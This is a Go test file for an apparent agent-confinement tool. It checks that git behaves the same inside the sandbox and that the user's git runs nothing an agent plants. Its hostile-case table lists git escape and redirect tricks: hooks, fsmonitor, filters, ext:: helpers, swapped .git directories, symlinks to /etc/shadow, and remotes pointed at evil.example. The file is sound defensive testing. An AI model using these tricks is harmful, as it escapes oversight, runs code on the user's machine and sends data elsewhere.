package scripts_test

import (
	"bytes"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/promptware-os/pwos/internal/testkit"
)

// gitBefore makes what the lines of the tests below work on, and functions for them.
const gitBefore = `
set -e; here=$PWD
new() { git init -q -b main $1; echo one >$1/f; git -C $1 add f; git -C $1 commit -qm one; }
bare() { git -C $1 log --all --format='%s %an %ae %D' | sort; git -C $1 config --local --list | sed "s|$here||" | sort; git -C $1 fsck --no-dangling 2>&1; ls -A $(git rev-parse --git-common-dir) $(git rev-parse --git-dir) | sed "s|$here||"; }
told() { git -C $1 status --porcelain --ignored; (cd $1; bare .); }
`

// TestGit: git works inside as outside, and leaves the same, in each situation.
func TestGit(t *testing.T) {
	t.Parallel()
	p := withGit(t)
	for name, line := range map[string]string{
		"a repository":          `new p; cd p; $RUN sh -c 'echo two >f; git commit -qam two; git tag v1; git stash list; git checkout -qb side; git mv f g; git commit -qm three; git checkout -q main; git merge -q --no-edit side; git gc -q; git log --format=%s'; told .`,
		"a new remote":          `new p; cd p; $RUN git remote add up https://example.com/up.git; told .`,
		"a new branch":          `new p; cd p; git remote add origin https://example.com/p.git; git update-ref refs/remotes/origin/side HEAD; $RUN git checkout -q --track origin/side; told .`,
		"a linked work tree":    `new p; git -C p worktree add -q ../w; cd w; $RUN sh -c 'git rev-parse --show-toplevel | sed s,.*/,,; echo two >f; git commit -qam two; git branch other; git pack-refs --all; git reflog --format=%gs'; told .; told ../p`,
		"of a bare repository":  `new p; git clone -q --bare p b.git; git -C b.git worktree add -q ../w main; cd w; $RUN sh -c 'echo two >f; git commit -qam two'; told .; (cd ../b.git; bare .)`,
		"adding a work tree":    `new p; cd p; $RUN sh -c 'git worktree add -q in/w; cd in/w; echo two >f; git commit -qam two; git worktree list | wc -l'; told .; told in/w; git worktree remove in/w; git worktree list | wc -l`,
		"a submodule":           `new lib; new p; cd p; git -c protocol.file.allow=always submodule --quiet add ../lib; git commit -qm sub; cd lib; $RUN sh -c 'echo two >f; git commit -qam two'; told .; told ..`,
		"with submodules":       `new lib; new p; cd p; git -c protocol.file.allow=always submodule --quiet add ../lib a/lib; git commit -qm sub; $RUN sh -c 'cd a/lib; echo two >f; git commit -qam two; cd ../..; git add a/lib; git commit -qm bump; git submodule status | wc -w; git submodule foreach --quiet "git status --porcelain"'; told .; told a/lib`,
		"a separate directory":  `new lib; git init -q -b main --separate-git-dir=$PWD/sep p; cd p; echo one >f; git add f; git commit -qm one; $RUN sh -c 'echo two >f; git commit -qam two'; told .`,
		"a sparse checkout":     `new p; cd p; mkdir a b; touch a/x b/x; git add .; git commit -qm two; git sparse-checkout set a; $RUN sh -c 'ls; git ls-files -v; echo three >a/x; git commit -qam three; git sparse-checkout list; git sparse-checkout add b; ls'; git ls-files -v; git sparse-checkout reapply; told .`,
		"a partial clone":       `new src; git -C src config uploadpack.allowFilter true; mkdir p; mv src p; cd p; git clone -q --no-checkout --filter=blob:none file://$PWD/src part; $RUN sh -c 'cd part; git checkout -q main; cat f; git cat-file -e HEAD:f'; git -C part log --format=%s; git -C part status --porcelain`,
		"a filter, such as LFS": `new p; cd p; git config filter.x.clean 'tr a-z A-Z'; git config filter.x.smudge 'tr A-Z a-z'; git config filter.x.required true; echo '*.big filter=x' >.gitattributes; $RUN sh -c 'echo content >a.big; git add .; git commit -qm big; git cat-file -p HEAD:a.big; rm a.big; git checkout -q a.big; cat a.big'; told .`,
		"hooks":                 `new p; cd p; printf '#!/bin/sh\necho hook >>"$1"\n' >.git/hooks/commit-msg; chmod +x .git/hooks/commit-msg; $RUN sh -c 'git commit -q --allow-empty -m two; git log -1 --format=%B'; told .`,
		"a clone, and a push":   `new src; git clone -q --bare src origin.git; mkdir p; mv origin.git p; cd p; $RUN sh -c 'git clone -q origin.git c; cd c; echo two >f; git commit -qam two; git push -q origin main; git fetch -q; git pull -q'; git -C origin.git log --format=%s; git -C c status -sb`,
		"a rebase":              `new p; cd p; git checkout -qb side; echo s >g; git add g; git commit -qm side; git checkout -q main; echo two >f; git commit -qam two; $RUN sh -c 'git rebase -q main side; git log --format=%s side; git stash list; echo x >g; git stash -q; git stash pop -q; git checkout -q g; git bisect start HEAD HEAD~1 >/dev/null; git bisect reset >/dev/null 2>&1'; told .`,
		"a clone to another":    `new src; mkdir p; mv src p; cd p; $RUN sh -c 'git clone -q --separate-git-dir=$PWD/sep src c; cat c/.git | sed "s|$PWD||"; cd c; echo two >f; git commit -qam two'; told c`,
		"becoming sparse":       `new p; cd p; mkdir a b; touch a/x b/x; git add .; git commit -qm two; $RUN sh -c 'git sparse-checkout set a; ls; git sparse-checkout list; git config --get-regexp "sparse"'; ls; git sparse-checkout list; told .`,
		"becoming whole":        `new p; cd p; mkdir a b; touch a/x b/x; git add .; git commit -qm two; git sparse-checkout set a; $RUN sh -c 'git sparse-checkout disable; ls'; ls; told .; git config --get core.sparsecheckout`,
		"a sparse clone":        `new src; cd src; mkdir a b; touch a/x b/x; git add .; git commit -qm two; git config uploadpack.allowFilter true; cd ..; mkdir p; mv src p; cd p; $RUN sh -c 'git clone -q --sparse --filter=blob:none file://$PWD/src c; cd c; ls; git sparse-checkout add a; ls'; cd c; ls; git sparse-checkout list; told .`,
		"a sparse work tree":    `new p; cd p; mkdir a b; touch a/x b/x; git add .; git commit -qm two; git worktree add -q ../w; cd ../w; git sparse-checkout set a; $RUN sh -c 'ls; git sparse-checkout add b; ls'; ls; told .; told ../p`,
		"LFS":                   `new p; cd p; git lfs version >/dev/null 2>&1 || exit 0; git lfs install --local >/dev/null; git lfs track '*.big' >/dev/null; git add .; git commit -qm lfs; $RUN sh -c 'echo content >a.big; git add .; git commit -qm big; git cat-file -p HEAD:a.big; rm a.big; git checkout -q a.big; cat a.big; git lfs ls-files'; told .; git lfs ls-files`,
		"settings of the user":  `RUN=${RUN:+pwos run --name lfs --}; export GIT_CONFIG_GLOBAL=$PWD/own; cp ~/.gitconfig own; new p; cd p; git config --global filter.lfs.clean 'tr a-z A-Z'; git config --global filter.lfs.smudge 'tr A-Z a-z'; git config --global filter.lfs.process ''; echo '*.big filter=lfs' >.gitattributes; $RUN sh -c 'echo content >a.big; git add .; git commit -qm big; git cat-file -p HEAD:a.big; rm a.big; git checkout -q a.big; cat a.big'; told .`,
		"a bare repository":     `new p; git clone -q --bare p b; cd b; $RUN sh -c 'git branch x; git update-ref refs/heads/y main; git for-each-ref --format="%(refname)"'; bare .`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			outside, inside := transparent(t, p, gitBefore+line, ""), transparent(t, p, gitBefore+line, "pwos run --")
			if outside != inside {
				t.Errorf("%s\noutside: %s\ninside:  %s", line, outside, inside)
			}
		})
	}
}

// withGit returns a place whose user has a name of git.
func withGit(t *testing.T) place {
	t.Helper()
	if !confines() {
		t.Skip("agents are confined and recognised only on Linux")
	}
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("there is no git")
	}
	p := settle(t)
	t.Cleanup(func() { testkit.Must(t, p.kill()) })
	if out, status := bash(t, p, t.TempDir(), `mkdir -p "$HOME"; git config --global user.name Ann; git config --global user.email ann@example.com; git config --global protocol.file.allow always; pwos call Syscall.Ping payload=1 >/dev/null`); status != 0 {
		t.Fatal(out)
	}
	return p
}

// bash runs a line in a directory, and returns what it writes, and its exit status. A git that does not end, since it waits for a FIFO, is killed.
func bash(t *testing.T, p place, dir, line string) (out string, status int) {
	t.Helper()
	var both bytes.Buffer
	ctx, cancel := context.WithTimeout(t.Context(), testkit.Patience)
	defer cancel()
	cmd := exec.CommandContext(ctx, "bash", "-c", line)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	cmd.Env, cmd.Dir, cmd.Stdout, cmd.Stderr = append(p.env(), "RUN=pwos run --"), dir, &both, &both
	err := cmd.Run()
	if exit, ok := errors.AsType[*exec.ExitError](err); ok {
		return both.String(), exit.ExitCode()
	}
	testkit.Must(t, err)
	return both.String(), 0
}

// TestGitOfOthers: git inside takes the repositories of the project although they are another user's, and no others.
func TestGitOfOthers(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		t.Skip("needs user 0, to make files of others")
	}
	p := withGit(t)
	out, status := bash(t, p, t.TempDir(), gitBefore+`new lib; new p; new q; git clone -q --bare p b.git; cd p; git -c protocol.file.allow=always submodule --quiet add ../lib sub; git commit -qm sub; git worktree add -q ../w
cd ..; RUN="pwos run --user root --read $here/q --"; chown -R 12345:12345 .; chmod -R go+rX .
for dir in p p/sub w b.git; do (cd $dir; $RUN sh -c 'git log -1 --format=%s 2>&1; git -C '$here'/q log 2>&1 | grep -c dubious || :'); done
cd p; $RUN sh -c 'git clone -q $PWD ~/c 2>&1; git -C ~/c log --format=%s -1; git -C sub log -1 --format=%s'
`)
	if want := "sub\n1\none\n1\nsub\n1\none\n1\nsub\none\n"; out != want || status != 0 {
		t.Errorf("%d %s", status, out)
	}
}

// TestGitHostile: whatever an agent leaves in its project's repository, what the user's git does then runs nothing of it, and sends nothing
// elsewhere. $RAN is a program that leaves a trace.
func TestGitHostile(t *testing.T) {
	t.Parallel()
	p := withGit(t)
	for name, line := range map[string]string{
		"a hook":                   `printf '#!/bin/sh\n%s\n' $RAN | tee .git/hooks/pre-commit .git/hooks/post-commit .git/hooks/post-index-change .git/hooks/pre-push .git/hooks/reference-transaction >/dev/null; chmod +x .git/hooks/*`,
		"fsmonitor":                `git config core.fsmonitor $RAN`,
		"another directory":        `mkdir h; printf '#!/bin/sh\n%s\n' $RAN >h/pre-commit; chmod +x h/pre-commit; git config core.hooksPath h; git config core.hooksPath $PWD/h`,
		"an editor":                `git config core.editor $RAN; git config core.pager $RAN; git config sequence.editor $RAN; git config core.askpass $RAN`,
		"an alias":                 `git config alias.st "!$RAN"; git config alias.log "!$RAN"; git config pager.log $RAN; git config pager.status $RAN`,
		"a filter":                 `git config filter.x.clean $RAN; git config filter.x.smudge $RAN; git config filter.x.process $RAN; echo '* filter=x diff=x merge=x' >.git/info/attributes; echo '* filter=x diff=x' >.gitattributes; git config diff.x.textconv $RAN; git config diff.x.command $RAN; git config diff.external $RAN`,
		"an include":               `printf '[core]\nfsmonitor = %s\n' $RAN >evil; git config include.path ../evil; git config includeIf.gitdir:/.path $PWD/evil`,
		"a remote helper":          `git config remote.origin.url "ext::$RAN"; git config protocol.ext.allow always; git config remote.origin.vcs x`,
		"an uploadpack":            `git config remote.origin.uploadpack $RAN; git config remote.origin.receivepack $RAN; git config core.sshCommand $RAN; git config credential.helper "!$RAN"; git config core.gitProxy $RAN`,
		"signing":                  `git config gpg.program $RAN; git config commit.gpgsign true; git config gpg.format ssh; git config gpg.ssh.program $RAN; git config gpg.ssh.defaultKeyCommand $RAN`,
		"settings of a work tree":  `git config extensions.worktreeConfig true; printf '[core]\nfsmonitor = %s\n' $RAN >.git/config.worktree`,
		"other ones of a tree":     `git config extensions.worktreeConfig true; rm -f .git/config.worktree; printf '[core]\nfsmonitor = %s\n' $RAN >x; mv x .git/config.worktree`,
		"another .git":             `mv .git x; rmdir .git; rm .git; git init -q x2; printf '[core]\nfsmonitor = %s\n' $RAN >>x2/.git/config; mv -T x2/.git .git; echo gitdir: x2/.git >.git; ln -sfn x2/.git .git; rm -rf x2`,
		"a project as one":         `cp -r .git/refs .git/objects .; cp .git/HEAD .git/index .git/packed-refs .; printf '[core]\nrepositoryformatversion = 0\nworktree = .\nfsmonitor = %s\n' $RAN >config; rm .git/HEAD; mv .git/refs .git/r; rm -rf .git/objects/none; mv .git/objects .git/o; chmod 0 .git/objects .git/refs .git`,
		"another common directory": `mkdir c; cp -r .git/objects .git/refs .git/HEAD c; printf '[core]\nfsmonitor = %s\nrepositoryformatversion = 0\n' $RAN >c/config; echo ../c >.git/commondir; rm -f .git/commondir; echo ../c >x; mv x .git/commondir`,
		"replacing the file":       `printf '[core]\nfsmonitor = %s\n' $RAN >x; mv x .git/config; cp x .git/config; rm .git/config; ln -sf $PWD/x .git/config; git config --file .git/config core.fsmonitor $RAN; mv .git/hooks .git/h; mkdir .git/hooks`,
		"a push elsewhere":         `git config remote.origin.pushurl $PWD/../evil.git; git config remote.pushDefault evil; git config branch.main.pushRemote evil; git remote add evil $PWD/../evil.git; git config remote.origin.push +HEAD:refs/heads/other`,
		"another address":          `git remote set-url origin $PWD/../evil.git; git config url.$PWD/../evil.git.insteadOf $PWD/../origin.git; git config url.$PWD/../evil.git.pushInsteadOf /`,
		"another origin":           `git remote rename origin old; git remote add origin https://evil.example/x.git; git config branch.main.remote origin`,
		"tracking of main":         `git config branch.main.remote https://evil.example/x.git; git config branch.main.merge refs/heads/main`,
		"a remote of old":          `mkdir -p .git/remotes .git/branches; echo "URL: $PWD/../evil.git" >.git/remotes/origin; echo $PWD/../evil.git >.git/branches/origin; git config --remove-section remote.origin`,
		"a remote named as a path": `git config "remote.../origin.git.url" https://evil.example/x; git config "remote.../origin.git.fetch" "+refs/heads/*:refs/remotes/../origin.git/*"`,
		"the linked work tree":     `git config extensions.worktreeConfig true; printf '[core]\nfsmonitor = %s\n' $RAN >.git/worktrees/w/config.worktree`,
		"its common directory":     `mkdir c; cp -r .git/objects .git/refs .git/HEAD c; printf '[core]\nfsmonitor = %s\nrepositoryformatversion = 0\n' $RAN >c/config; echo $PWD/c >.git/worktrees/w/commondir`,
		"another linked work tree": `mkdir c; printf '[core]\nfsmonitor = %s\n' $RAN >c/config; mv .git/worktrees/w .git/worktrees/v; mv .git/worktrees .git/x; rm -rf .git/worktrees`,
		"the submodule":            `git config --file .git/modules/sub/config core.fsmonitor $RAN; printf '#!/bin/sh\n%s\n' $RAN >.git/modules/sub/hooks/post-index-change; chmod +x .git/modules/sub/hooks/*`,
		"another submodule":        `cp -rL .git/modules/sub s; printf '[core]\nfsmonitor = %s\nworktree = %s\n' $RAN $PWD/sub >>s/config; echo gitdir: ../s >sub/.git; echo gitdir: ../s >x; mv x sub/.git`,
		"a moved submodule":        `cp -rL .git/modules m; printf '[core]\nfsmonitor = %s\n' $RAN >>m/sub/config; mv .git/modules/sub .git/modules/x; mv .git/modules .git/y; mv m .git/modules; rmdir .git/modules/*; mv m/sub .git/modules/sub`,
		"broken settings":          `printf '[core\n' >.git/config; head -c 3000000 /dev/zero >.git/config`,
		"settings that block":      `mkfifo x; mv x .git/config`,
		"links in the copies":      `at=$(dirname $(readlink .git/config)); rm $at/config; ln -s /etc/passwd $at/config; ln -s /etc/shadow .git/hooks/pre-commit; mkfifo .git/hooks/pre-push; chmod 0 $at`,
		"an agent of its own":      `cd .git; echo "$RAN" >hooks/post-commit; chmod 777 hooks/post-commit; ln hooks/post-commit hooks/pre-commit`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			before := gitBefore + `
new src; git clone -q --bare src origin.git; git clone -q --bare src evil.git; new lib
git clone -q origin.git p; cd p; git -c protocol.file.allow=always submodule --quiet add ../lib sub; git commit -qm sub; git push -q; git worktree add -q ../w
printf '#!/bin/sh\ntouch %s/ran\n' $(dirname $PWD) >../ran.sh; chmod +x ../ran.sh; git config --list | sort >../before; ls -A .git >../ls`
			if out, status := bash(t, p, dir, before); status != 0 {
				t.Fatal(out)
			}
			testkit.Must(t, os.WriteFile(filepath.Join(dir, "line"), []byte("export RAN='"+dir+"/ran.sh'\n"+line+"\nexit 0\n"), 0o600))
			out, status := bash(t, p, filepath.Join(dir, "p"), `pwos run --read $PWD/../ran.sh -- sh -c "$(cat ../line)"`)
			if status != 0 {
				t.Fatalf("run: %d %s", status, out)
			}
			// A FIFO that git opens would hold it up.
			after := `cd p; find .git -type p -printf '> a FIFO: %p\n' -delete; git status; echo more >more; git add more; git commit -qm more; git log --oneline | cat; git diff HEAD~1 | cat; git fetch -q; git push -q; git stash list; git -C ../w status; git -C sub status; git checkout -q -b b; git checkout -q main; git config --list | grep -vx extensions.worktreeconfig=true | sort | diff ../before -; ls -A .git | grep -vx -e ORIG_HEAD -e FETCH_HEAD -e x -e y -e h -e .git | diff ../ls -
git -C ../origin.git log --format=%s main | head -1; git -C ../evil.git for-each-ref | wc -l`
			said, _ := bash(t, p, dir, after)
			if _, err := os.Lstat(filepath.Join(dir, "ran")); err == nil {
				t.Errorf("a program of the agent ran: %s\n%s", out, said)
			}
			if !strings.HasSuffix(said, "more\n1\n") {
				t.Errorf("the push went elsewhere: %s\n%s", out, said)
			}
			for line := range strings.SplitSeq(said, "\n") {
				if strings.HasPrefix(line, "> ") || strings.HasPrefix(line, "< ") {
					t.Errorf("left: %s", line)
				}
			}
		})
	}
}
